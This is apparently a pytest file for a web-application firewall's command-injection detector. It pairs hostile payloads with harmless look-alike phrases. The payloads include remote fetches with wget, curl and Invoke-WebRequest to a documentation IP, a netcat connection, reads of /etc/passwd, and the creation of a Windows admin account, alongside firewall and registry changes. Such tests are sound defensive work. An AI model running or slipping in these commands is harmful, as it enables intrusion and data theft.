"""Command injection shapes: shell parameter expansion, a command in parentheses
or behind a backslash, commands that go to the root first, batch comparisons,
configuration-management tools, uploads that replace a server's configuration.
Each payload has a near miss in ordinary words that must stay quiet."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from shieldwall.runtime.detect.payload import PayloadDetector
from shieldwall.runtime.detect.shell import shell_command
from shieldwall.runtime.sources.json_logs import parse_modsecurity_json
from tests.runtime.payloads import payload_kinds


def _query(value: str) -> set[str]:
    return payload_kinds(query="v=" + quote(value))


@pytest.mark.parametrize(
    "payload",
    [
        "${HOME#/}",  # expansion with an operator
        "${PWD//x/y}",
        "${undefined:-/bin}",
        "$[7+1]",
        "$[]",
        "$SHELL -c true",
        "a&&(sh)<x",  # a command in parentheses after a separator
        "\\whoami",  # a backslash that skips an alias
        "cd ..;ls",  # to the root (or up) before a command
        "cd /tmp && id",
        "x; rm -rf ./data",
        ";at 23:59 'touch x'",
        ";irb -e 1",
        ";lastlogin -u root",
        ";regedit /s a.reg",
        "time bsdtar -cf x .",
        "cat /[d]ev/nul?",  # a globbed path after a command
        "bin/visudo",
        "ansible web -m shell",
        "ansible-vault view x.yml",
        "chef-client --local-mode",
        "cscli decisions list",
    ],
)
def test_shell_expansions_and_command_shapes_are_cmdi(payload: str) -> None:
    assert "cmdi" in _query(payload)


@pytest.mark.parametrize(
    "text",
    [
        "Hello ${user.name}",  # a template placeholder
        "price $5 or $[10",
        "cd player; tape deck",
        "meet me; at 10:30 in room 4",
        "rm the old one",
        "ansible",
        "ansible tutorial",
        "how to learn chef cooking",
        "cscli is a tool",
        "see bin/run.sh",
        "cat food /kg",
    ],
)
def test_ordinary_words_near_those_shapes_are_not_cmdi(text: str) -> None:
    assert "cmdi" not in _query(text)


def test_ansibles_own_user_agent_is_not_a_command() -> None:
    assert payload_kinds(user_agent="ansible-httpget") == set()
    assert "cmdi" in payload_kinds(user_agent="ansible-playbook -i hosts site.yml")


@pytest.mark.parametrize(
    "condition",
    [
        'if "%X%"=="1" goto end',
        "IF [%1]==[] echo none",
        "if (%2)==(a) cd c:\\x",
        "if not {%3} == {} set y=1",
        'IF /I "%v%"=="yes" (echo y)',
        "if/i a==b ver",
    ],
)
def test_batch_comparisons_of_quoted_or_bracketed_operands_are_cmdi(condition: str) -> None:
    assert shell_command(condition.lower())


@pytest.mark.parametrize("text", ["if a is b then c", 'if "a" is fine', "a == b"])
def test_comparisons_in_prose_are_not_batch(text: str) -> None:
    assert not shell_command(text)


def test_a_command_hidden_by_an_empty_underscore_variable_is_cmdi() -> None:
    assert shell_command(";c$_a$_t /e$_tc/ho$_sts")
    assert not shell_command("php: $_get and $_post")


def test_a_referer_carrying_a_command_before_its_query_is_cmdi() -> None:
    assert "cmdi" in payload_kinds(referer="https://a.example/p;c$@at+/etc/hosts?x=1")
    assert payload_kinds(referer="https://a.example/p;jsessionid=4f2?x=1") == set()


def _upload(headers: dict[str, str], body: str = "") -> set[str]:
    line = json.dumps(
        {
            "transaction": {
                "client_ip": "203.0.113.9",
                "time_stamp": "Thu Dec  3 10:15:02 2026",
                "request": {"method": "POST", "uri": "/upload", "headers": headers, "body": body},
                "response": {"http_code": 200},
            }
        }
    )
    event = parse_modsecurity_json(line)
    assert event is not None
    return {hit.kind for hit in PayloadDetector().scan(event)}


@pytest.mark.parametrize(
    "name", ["wp-config.php", "wp-config-old.bak", ".htaccess", "settings. php"]
)
def test_an_upload_named_like_server_configuration_is_cmdi(name: str) -> None:
    assert "cmdi" in _upload({"X-Filename": name})
    part = f'--b\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\nx\r\n--b--'
    assert "cmdi" in _upload({"Content-Type": "multipart/form-data; boundary=b"}, part)


@pytest.mark.parametrize("name", ["settings.png", "my config.pdf", "htaccess-notes.txt"])
def test_an_upload_of_an_ordinary_file_is_not_flagged(name: str) -> None:
    assert _upload({"X-Filename": name}) == set()
    part = f'--b\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\nx\r\n--b--'
    assert _upload({"Content-Type": "multipart/form-data; boundary=b"}, part) == set()


@pytest.mark.parametrize(
    "value",
    [
        "| net localgroup " + "Administrators eve /ADD",
        "net user eve " + "S3cret /add",
        "; net view",
        "& netsh firewall set " + "opmode disable",
        "&& reg add " + '"HKLM\\System\\X" /v y /t REG_DWORD /d 0 /f',
        "; pwd",
        '<!--#exec cmd="/usr/' + "bin/id;-->",
    ],
)
def test_windows_account_firewall_and_registry_commands_and_ssi_exec_are_cmdi(value: str) -> None:
    assert "cmdi" in payload_kinds(query="q=" + quote(value))


@pytest.mark.parametrize(
    "value",
    [
        "net user count grew",
        "the net view from the hill",
        "reg add-on for cars",
        "password & pwd reset",
        "<!-- exec summary -->",
        "netsh is a Windows tool",
    ],
)
def test_sentences_near_those_commands_are_not_cmdi(value: str) -> None:
    assert "cmdi" not in payload_kinds(query="q=" + quote(value))


@pytest.mark.parametrize(
    "value",
    [
        ";mkfifo /tmp/f",
        ";xterm -display 10.0.0.1:1",
        "|nmap -sV 10.0.0.1",
        ";printenv",
        ";lsb_release -a",
        ";find / -name x",
        "&type c:\\windows\\win.ini",
        ";dd if=/etc/passwd",
        ";strings /etc/passwd",
        ";Invoke-WebRequest http://203.0.113.9/x",
        "|iwr http://203.0.113.9/x",
        ";Get-Process",
        "&Start-Process calc",
    ],
)
def test_more_unix_and_powershell_commands_after_a_separator_are_cmdi(value: str) -> None:
    assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))


@pytest.mark.parametrize(
    "text",
    [
        "date format dd/mm; at 5 pm",
        "find / replace in word",
        "sit; fetch the ball",
        "a get-together; start-up day",
        "which one?; strings attached",
    ],
)
def test_words_that_are_also_those_commands_stay_quiet(text: str) -> None:
    assert "cmdi" not in payload_kinds(query="q=" + quote(text))


def test_a_data_uri_is_not_the_base64_command() -> None:
    image = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"
    assert "cmdi" not in payload_kinds(query="avatar=" + quote(image, safe=""))
    assert "cmdi" in payload_kinds(query="c=" + quote(";base64 -d /tmp/x", safe=""))


@pytest.mark.parametrize("value", ["%comspec% /c dir", "$'\\x63\\x61\\x74' /etc/passwd"])
def test_the_windows_shell_variable_and_bash_ansi_c_quoting_are_cmdi(value: str) -> None:
    assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))
    assert "cmdi" not in payload_kinds(query="q=" + quote("100% comspec and $'5' off"))


WINDOWS_AND_NETWORK = [
    "wget http://203.0.113.9/x",
    "curl https://203.0.113.9/y.sh",
    "nc 10.0.0.1 4444",
    "ping 127.0.0.1",
    "|findstr /s password *.txt",
    "&vssadmin list shadows",
    "&tree /f c:\\",
    "|attrib +h x",
    "&icacls c:\\x",
    ";seq 1 10",
    ";expr 1 + 1",
]
NEAR_COMMANDS = [
    "wget vs curl",
    "ping pong table",
    "how to use findstr",
    "family tree /genealogy",
    "print / replace",
    "man / woman",
    "ver 2.1",
]


@pytest.mark.parametrize(
    ("value", "is_cmdi"),
    [(v, True) for v in WINDOWS_AND_NETWORK] + [(t, False) for t in NEAR_COMMANDS],
)
def test_windows_commands_and_network_tools_given_a_target_are_cmdi_their_names_are_not(
    value: str, is_cmdi: bool
) -> None:
    assert ("cmdi" in payload_kinds(query="c=" + quote(value, safe=""))) is is_cmdi


def test_a_windows_variable_cut_to_a_substring_is_cmdi() -> None:
    assert "cmdi" in payload_kinds(query="c=" + quote("&%comspec:~-7,1%ho%comspec:~-1%", safe=""))
    assert "cmdi" not in payload_kinds(query="q=" + quote("50%:~1,2% off"))


@pytest.mark.parametrize(
    "value",
    [
        ";gci env:",
        "|gc c:\\windows\\win.ini",
        "&gwmi win32_process",
        ";!-1",
        "|!!",
        "; alias ls=id",
        ";. /tmp/x.sh",
        "&& . ~/run",
    ],
)
def test_powershell_aliases_history_recall_aliases_and_sourcing_are_cmdi(value: str) -> None:
    assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))


@pytest.mark.parametrize(
    "text",
    [
        "wow!!",
        "hi; ni hao",
        "GCI score; gc content",
        "color: red; !important",
        "a; alias names for you",
        "done; ./configure next",
        "dose; .5 ml",
    ],
)
def test_words_near_powershell_aliases_and_history_recall_stay_quiet(text: str) -> None:
    assert "cmdi" not in payload_kinds(query="q=" + quote(text))


def test_a_long_run_of_line_breaks_is_no_command_until_a_command_follows_it() -> None:
    # every break is a separator and a blank: each run is read once, not once per break
    breaks = "\n" * 2000
    assert not shell_command(breaks)
    assert not shell_command(breaks + "hello")
    assert shell_command(breaks + "cat /etc/hosts")
